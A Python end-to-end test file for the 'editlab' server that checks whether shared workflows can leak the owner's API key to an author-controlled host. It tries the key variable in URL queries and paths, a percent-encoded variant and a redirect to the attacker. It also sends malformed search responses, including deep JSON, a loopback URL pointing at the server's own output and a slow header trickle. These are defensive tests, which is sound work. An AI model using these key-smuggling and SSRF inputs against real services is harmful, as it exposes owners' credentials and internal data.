"""Issue 22 through the live server: a shared workflow reaches nothing the server's owner did not allow.

The session server has a secret in its environment (conftest's PLANTED_KEY in EDITLAB_TEST_PLANTED_KEY). Each row is
a workflow as its author would write it, with a loopback listener standing in for the author's host. The listener
never receives the secret (nor, where the workflow is refused before any request, anything at all), the run ends in
an error naming the input, and the same server process goes on serving.

The owner's configuration is the file ``user/editlab/llm_endpoints.json`` in the server's user directory, written by
the ``owner`` fixture (the owner's side: no workflow can write it) and removed afterwards.

The second part sends the World-To-Image agent malformed search answers (a 100,000-deep JSON, a list where an object
is expected, a header trickle, an image URL on ComfyUI's own port): each is a refusal recorded in the history, within
its deadline, and the run goes on with its other candidates."""
from __future__ import annotations

import json
import time

import pytest
from conftest import PLANTED_KEY, PLANTED_KEY_ENV
from standins import ChatStandIn, Reply, StandIn, png_bytes

from editlab.client.api import PromptFailed, text_outputs

pytestmark = pytest.mark.e2e


def N(class_type: str, **inputs) -> dict:
    return {"class_type": class_type, "inputs": inputs}


@pytest.fixture
def owner(server):
    """``owner({...})`` writes the server owner's endpoint file; removed when the test ends."""
    path = server.workdir / "user" / "editlab" / "llm_endpoints.json"

    def write(endpoints: dict):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(endpoints))

    yield write
    path.unlink(missing_ok=True)


def viescore(base_url: str, api_key_env: str = "") -> dict:
    return {"1": N("EditLabLLM", base_url=base_url, model="judge", api_key_env=api_key_env, temperature=0.0,
                   timeout=5.0, max_retries=1, vision=True),
            "2": N("EmptyImage", width=32, height=32, batch_size=1, color=0),
            "9": N("EditLabVIEScore", llm=["1", 0], instruction="make it blue", source_image=["2", 0],
                   edited_image=["2", 0]),
            "99": N("PreviewAny", source=["9", 4])}


def failure(server, graph) -> str:
    try:
        server.client.wait(server.client.queue(graph), timeout=300)
    except PromptFailed as exc:
        return str(exc)
    raise AssertionError("the prompt succeeded")


def _secret_in(requests) -> bool:
    return any(PLANTED_KEY in json.dumps(r, default=str) for r in requests)


# name -> (owner's endpoints, workflow's base_url, api_key_env, failing node, input named, expected text, the
# bound endpoint may be asked). "{good}" / "{attacker}" are the two listeners' base URLs.
ROWS = {
    "a variable nobody bound, sent to the author's host": (
        {}, "{attacker}", PLANTED_KEY_ENV, "1", "api_key_env", "no key is bound to this base URL"),
    "the owner's key with the author's host": (
        {"good": {"base_url": "{good}", "key_env": PLANTED_KEY_ENV}}, "{attacker}", PLANTED_KEY_ENV, "1",
        "api_key_env", "no key is bound to this base URL"),
    "the owner's endpoint with another variable": (
        {"good": {"base_url": "{good}", "key_env": PLANTED_KEY_ENV}}, "good", "HOME", "1", "api_key_env",
        f"empty or {PLANTED_KEY_ENV}"),
    "a redirect from the owner's endpoint to the author's host": (
        {"good": {"base_url": "{good}", "key_env": PLANTED_KEY_ENV}}, "good", "", "9", "llm",
        "a redirect to {attacker}/chat/completions: not followed"),
    "the key variable in the base URL's query": (
        {"good": {"base_url": "{good}", "key_env": PLANTED_KEY_ENV}}, "{attacker}?key=$" + PLANTED_KEY_ENV, "",
        "1", "base_url", "without a query"),
    "the key variable in the base URL's path": (
        {"good": {"base_url": "{good}", "key_env": PLANTED_KEY_ENV}}, "{attacker}/${" + PLANTED_KEY_ENV + "}", "",
        "1", "base_url", "no $, {, }, %"),
    "the key variable percent-encoded in the path": (
        {}, "{attacker}/%24" + PLANTED_KEY_ENV, "", "1", "base_url", "no $, {, }, %"),
}


@pytest.mark.parametrize("row", list(ROWS))
def test_a_workflow_can_not_send_the_owners_key_elsewhere(row, server, owner):
    endpoints, base_url, key_env, node, input_name, says = ROWS[row]
    pid = server.proc.pid
    with ChatStandIn(['{"scores": [5, 5]}']) as attacker, ChatStandIn(['{"scores": [5, 5]}']) as good:
        if "redirect" in row:
            good.script = [Reply(307, b"", {"Location": attacker.base_url + "/chat/completions"})]

        def fill(text):
            return text.replace("{good}", good.base_url).replace("{attacker}", attacker.base_url)

        owner({name: {k: fill(v) if isinstance(v, str) else v for k, v in entry.items()}
               for name, entry in endpoints.items()})
        message = failure(server, viescore(fill(base_url), key_env))
        assert attacker.requests == [], attacker.requests  # nothing at all reached the author's host
        if "redirect" in row:
            assert good.calls == 1  # the owner's endpoint was asked once (with its key), not again
        else:
            assert good.requests == []
    assert message.startswith(f"node {node} ("), message
    assert f"input '{input_name}': expected" in message and fill(says) in message, message
    assert PLANTED_KEY not in message and len(message) < 2000
    assert server.proc.poll() is None and server.proc.pid == pid


def test_the_owners_key_goes_to_the_owners_endpoint_selected_by_name(server, owner):
    """... and when the owner moves the endpoint, the same workflow follows at once (the LLM node's cache key holds
    the owner's configuration)."""
    with ChatStandIn(['{"scores": [8, 6], "reasoning": "fine"}']) as good, \
            ChatStandIn(['{"scores": [3, 9], "reasoning": "moved"}']) as moved:
        owner({"judge": {"base_url": good.base_url, "key_env": PLANTED_KEY_ENV}})
        entry = server.client.wait(server.client.queue(viescore("judge")), timeout=300)
        owner({"judge": {"base_url": moved.base_url}})  # moved, and no key any more
        again = server.client.wait(server.client.queue(viescore("judge")), timeout=300)
        auth = [{k.lower(): v for k, v in r["headers"].items()}.get("authorization") for r in good.chats()]
        assert moved.chats() and not _secret_in(moved.requests) and len(good.chats()) == 2
    assert auth and all(a == f"Bearer {PLANTED_KEY}" for a in auth)
    text = "\n".join(t for _, _, t in text_outputs(entry))
    assert '"semantic_consistency": 6.0' in text and PLANTED_KEY not in text
    assert '"semantic_consistency": 3.0' in "\n".join(t for _, _, t in text_outputs(again))
    assert PLANTED_KEY.encode() not in server.log_path.read_bytes()


def test_the_default_configuration_sends_no_secret(server, owner):
    """No owner configuration: a keyless loopback endpoint works, and gets no Authorization header at all."""
    with ChatStandIn(['{"scores": [7, 7]}']) as local:
        owner({})
        server.client.wait(server.client.queue(viescore(local.base_url)), timeout=300)
        assert local.chats() and not _secret_in(local.requests)
        assert all("authorization" not in {k.lower() for k in r["headers"]} for r in local.requests)


# -- malformed answers: recorded refusals, the run goes on ---------------------------------------------------------

def web(service: str, endpoint: str) -> dict:
    return N("EditLabWebImageSearch", service=service, endpoint=endpoint, allow_loopback=True, use_cache=False,
             timeout=1.0, max_megabytes=1.0, max_megapixels=1.0)


def test_malformed_search_answers_are_recorded_and_the_run_goes_on(server):
    pid = server.proc.pid
    with StandIn() as deep, StandIn() as listy, StandIn() as good:
        deep.routes["/s"] = Reply(200, "[" * 100_000, {"Content-Type": "application/json"})
        listy.routes["/v1/images/"] = Reply(200, [{"url": listy.url + "/a.png", "title": "a list, not an object"}])
        own_output = f"http://127.0.0.1:{server.port}/api/view?filename=secret.png&type=output"
        good.routes["/s"] = Reply(200, {"items": [
            {"url": own_output, "title": "the server's own output"},
            {"url": good.url + "/trickle.png", "title": "a header trickle"},
            {"url": good.url + "/ok.png", "title": "ok", "licence": "CC0"}]})
        good.routes["/trickle.png"] = Reply(header_trickle=0.4)
        good.routes["/ok.png"] = Reply(200, png_bytes(40, 40, (0, 200, 0)), {"Content-Type": "image/png"})
        graph = {"1": N("EditLabTinyModels", architecture="flux", seed=0),
                 "3": web("custom_json", deep.url + "/s?q={query}"),
                 "4": web("openverse", listy.url + "/v1/images/"),
                 "5": web("custom_json", good.url + "/s?q={query}"),
                 "9": N("EditLabWorldToImage", model=["1", 0], clip=["1", 1], vae=["1", 2], prompt="a zorblax lamp",
                        width=64, height=64, steps=1, cfg=1.0, sampler_name="euler", scheduler="simple", seed=0,
                        iterations=2, threshold=0.3, candidates=3, references=1, reference_mode="none",
                        source_1=["3", 0], source_2=["4", 0], source_3=["5", 0]),
                 "99": N("PreviewAny", source=["9", 2])}
        t = time.monotonic()
        entry = server.client.wait(server.client.queue(graph), timeout=300)
        took = time.monotonic() - t
        deadline = time.monotonic() + 5
        while not good.trickles_ended and time.monotonic() < deadline:
            time.sleep(0.1)
        assert good.trickles_ended, "the trickling connection was never closed"
    (_, _, text), = [t for t in text_outputs(entry) if t[0] == "99"]
    step = json.loads(text)["iterations"][1]
    reasons = [r["reason"] for r in step["refused"]]
    assert len(reasons) == 4, reasons
    assert "nested deeper than 64 levels" in reasons[0]
    assert "a JSON list where an object was expected" in reasons[1]
    assert "loopback is allowed only for the configured endpoint's own host and port" in reasons[2]
    assert "total time limit of 1 s" in reasons[3]
    assert [r["title"] for r in step["references"]] == ["ok"]
    assert took < 120, took
    assert server.proc.poll() is None and server.proc.pid == pid
